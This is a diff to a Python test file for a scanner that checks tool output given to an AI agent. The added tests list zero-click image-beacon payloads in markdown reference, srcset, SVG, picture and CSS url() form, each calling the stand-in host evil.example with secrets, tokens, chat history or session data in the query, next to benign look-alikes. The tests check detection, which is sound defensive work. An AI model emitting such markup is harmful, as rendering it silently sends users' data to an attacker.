@@ -71,3 +71,40 @@ def test_warn_mode_still_removes_a_slot_beside_searches() -> None:
     text = f"{SEARCHES[0]}\n{beacon}\n{SEARCHES[1]}\n"
     ev = evaluate_result({"content": [{"type": "text", "text": text}]}, mode="warn")
     assert ev.result["content"][0]["text"] == text.replace(beacon, "[untrusted link removed]")
+
+
+#: zero-click image beacons outside inline markdown and <img src>: a reference-style markdown
+#: image (EchoLeak's form, CVE-2025-32711), a srcset candidate (the first or a later one), an
+#: SVG <image href>, a <source srcset>, a CSS url()
+FETCHED_SHAPES = [
+    "![chart][r1]\n\n[r1]: https://evil.example/c.png?d=SECRETDATA123",
+    "  [ref]: <https://evil.example/c.png?data=>",
+    '<img srcset="https://evil.example/c.png?d=SECRETDATA123 2x">',
+    '<img srcset="a.png 1x, https://evil.example/c.png?d=SECRET 2x">',
+    '<svg><image href="https://evil.example/c.png?d=SECRETDATA123"/></svg>',
+    '<svg><image xlink:href="https://evil.example/c.png?history=CHAT"/></svg>',
+    '<picture><source srcset="https://evil.example/c.webp?session={session}"></picture>',
+    '<div style="background:url(https://evil.example/c.png?d=SECRETDATA123)">x</div>',
+    "body { background: url('https://evil.example/c.png?d=TOKEN') }",
+]
+
+#: the same shapes fetching ordinary resources, and a click (not fetched unclicked)
+FETCHED_BENIGN = [
+    "url(https://fonts.googleapis.com/css?family=Roboto)",
+    '<link rel="stylesheet" href="https://fonts.googleapis.com/css2?family=Inter&display=swap">',
+    '<img srcset="https://cdn.example.com/a.png?w=200 1x, https://cdn.example.com/a.png?w=400 2x">',
+    "[1]: https://example.com/search?q=cats",
+    '<iframe src="https://www.youtube.com/embed/abc?autoplay=1"></iframe>',
+    "[docs]: https://github.com/no-context/moo/issues?q=label%3Aquestion",
+]
+
+
+@pytest.mark.parametrize("text", FETCHED_SHAPES)
+def test_an_image_fetched_in_any_shape_is_a_beacon(text: str) -> None:
+    high = {f.rule for f in scan_text(text) if f.severity in ("high", "critical")}
+    assert "exfil.markdown_image" in high, text
+
+
+@pytest.mark.parametrize("text", FETCHED_BENIGN)
+def test_an_ordinary_fetched_resource_is_not_a_beacon(text: str) -> None:
+    assert not RULES & {f.rule for f in scan_text(text)}, text
